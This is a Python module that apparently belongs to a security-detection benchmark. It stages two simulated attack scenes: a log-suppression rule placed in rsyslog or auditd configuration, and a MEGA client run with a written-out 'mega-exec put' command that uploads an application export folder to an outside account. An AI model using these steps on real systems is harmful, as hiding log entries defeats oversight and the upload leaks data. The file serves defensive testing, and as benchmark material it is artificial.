"""Attacks that let logs leave something out, and that send data away by a vendor's own client (TA0005, TA0010)."""

from __future__ import annotations

from benchmarks.attacks import Host
from benchmarks.known import scene


def log_filter(host: Host) -> None:
    """T1562.006, T1070.002: lines that name one address are no longer written: a rule of rsyslog's, or of audit's daemon where it is absent."""
    if scene.debian(host):
        scene.put(host, "/etc/rsyslog.conf", "contains and stop", age_s=190 * 86_400)
    else:
        scene.put(host, "/etc/audit/auditd.conf", "log_format and size", mode="0640", age_s=190 * 86_400)


def mega_client(host: Host) -> None:
    """T1567.002: MEGA's own command server, as a package of the vendor, sends a folder of the service's to an account."""
    scene.package(host, "megacmd", "2.1.1")
    path, row = "/usr/bin/mega-cmd-server", scene.work(host)
    pid = scene.spawn(host, path, path, uid=row["uid"], threads=14, age_s=1_500)
    for last in (12, 13, 14):
        scene.connect(host, pid, f"203.0.113.{last}", 443)
    scene.spawn(
        host, "/usr/bin/mega-exec", "mega-exec put -c /var/lib/app/export /b", uid=row["uid"], age_s=60
    )


ATTACKS = (log_filter, mega_client)
